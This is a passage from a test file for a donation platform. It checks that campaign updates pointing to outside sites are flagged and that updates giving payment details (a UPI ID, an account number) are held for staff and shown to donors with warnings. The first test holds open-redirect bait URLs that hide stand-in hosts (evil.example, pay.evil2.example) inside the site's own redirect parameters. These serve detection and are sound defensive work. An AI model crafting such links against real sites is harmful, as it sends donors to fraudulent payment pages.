    expect((await review((await latest(c.id))?.id ?? 0, { decision: 'approve', trust: true })).body.data.status).toBe('published');
    const origin = app.publicUrl;
    const bait = `${origin}/language/en?next=%2Fhi%2F%2Fevil.example%2Fdonate`;
    expect((await post(c, 'Pay again', `Your gift failed. Pay again at ${bait} or ${origin}/login?redirectTo=https:pay.evil2.example`)).statusCode).toBe(302);
    const u = await latest(c.id);
    expect(u?.outsideHosts.slice().sort()).toEqual(['evil.example', 'pay.evil2.example']);
    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
    expect(page.body).toContain(`This update names other websites: ${u?.outsideHosts.join(', ')}.`);
    // Our own link that stays here names nothing.
    expect((await post(c, 'In Hindi', `Read it in Hindi: ${origin}/language/hi?next=%2Fcampaigns%2F${c.slug}`)).statusCode).toBe(302);
    expect((await latest(c.id))?.outsideHosts).toEqual([]);
  });

  it('an update that gives a UPI ID or a bank account waits for staff even from a trusted campaign, and warns donors on the page', async () => {
    const c = await createCampaign({ ownerId: owner.id });
    const donor = uniqueEmail('donor');
    await paidGiftOf(c.slug, donor, true);
    await post(c, 'Week one', 'Blankets bought.');
    expect((await review((await latest(c.id))?.id ?? 0, { decision: 'approve', trust: true })).body.data.status).toBe('published');
    // Trusted, but this one names a new place to pay: it waits, and the campaigner is told why.
    const asking = await post(c, 'Faster help', 'UPI is quicker: kavita.r@okaxis, or A/C No. 3021 4455 6677 (IFSC SBIN0001234). Questions: 98290 41007.');
    expect(asking.statusCode).toBe(302);
    expect(decodeURIComponent(String(asking.headers['set-cookie']))).toContain(em.updateHeldForPayment.slice(0, 40));
    const held = await latest(c.id);
    expect(held?.status).toBe('pending');
    const found = [
      { kind: 'upi', value: 'kavita.r@okaxis' },
      { kind: 'ifsc', value: 'SBIN0001234' },
      { kind: 'account', value: '302144556677' },
      { kind: 'phone', value: '9829041007' },
    ];
    const queue = await call<Answer<{ id: number; paymentDetails: unknown[] }[]>>('GET', '/api/v1/admin/campaign-updates', { token: staffToken });
    expect(queue.body.data.find((x) => x.id === held?.id)?.paymentDetails).toEqual(found);
    const { app } = await getTestApp();
    const queuePage = (await app.inject({ method: 'GET', url: '/admin/updates', headers: { authorization: `Bearer ${staffToken}` } })).body;
    const card = queuePage.slice(queuePage.indexOf('Faster help'));
    expect(card).toContain(em.paymentDetails);
    expect(card).toMatch(/UPI ID(<!-- -->)?: <span[^>]*>kavita\.r@okaxis<\/span>/);
    expect(card).toMatch(/Account number(<!-- -->)?: <span[^>]*>302144556677<\/span>/);
    const [audit] = await (await getDb())
      .select({ after: s.auditEvents.after })
      .from(s.auditEvents)
      .where(and(eq(s.auditEvents.action, 'campaign.update.post'), eq(s.auditEvents.subjectId, String(c.id))))
      .orderBy(desc(s.auditEvents.id))
      .limit(1);
    expect(audit?.after).toMatchObject({ status: 'pending', paymentDetails: found });
    // Nothing reached the page or a donor while it waited.
    expect((await app.catalog.campaign(c.slug))?.updates.map((u) => u.title)).toEqual(['Week one']);
    expect((await messagesTo(donor)).some((m) => m.subject.endsWith('Faster help'))).toBe(false);

    // Staff let it through (say the foundation's own account): donors are warned to give here only.
    expect((await review(held?.id ?? 0, { decision: 'approve' })).body.data.status).toBe('published');
    const page = (await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` })).body;
    const warning = 'This update gives payment details. Give only on this page';
    expect(page.slice(page.indexOf('Faster help'))).toContain(warning);
    // Its email to donors carries the same warning; the first week's did not.
    const emails = await messagesTo(donor);
    const warned = "This update gives payment details. Give only on the campaign's page";
    expect(emails.find((m) => m.subject.endsWith(': Faster help'))?.body).toContain(warned);
    expect(emails.find((m) => m.subject.endsWith(': Week one'))?.body).not.toContain(warned);
    const api = await call<Answer<{ updates: { title: string; paymentDetails: unknown[] }[] }>>('GET', `/api/v1/campaigns/${c.slug}`);
    expect(api.body.data.updates.find((u) => u.title === 'Faster help')?.paymentDetails).toEqual(found);

    // A phone number alone, to ask questions, goes out at once with no warning.
    expect((await post(c, 'Questions', 'Call Kavita on 98290 41007 with any question.')).statusCode).toBe(302);
    expect((await latest(c.id))?.status).toBe('published');
    const after = (await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` })).body;
    expect(after.split(warning)).toHaveLength(2);
  });
});
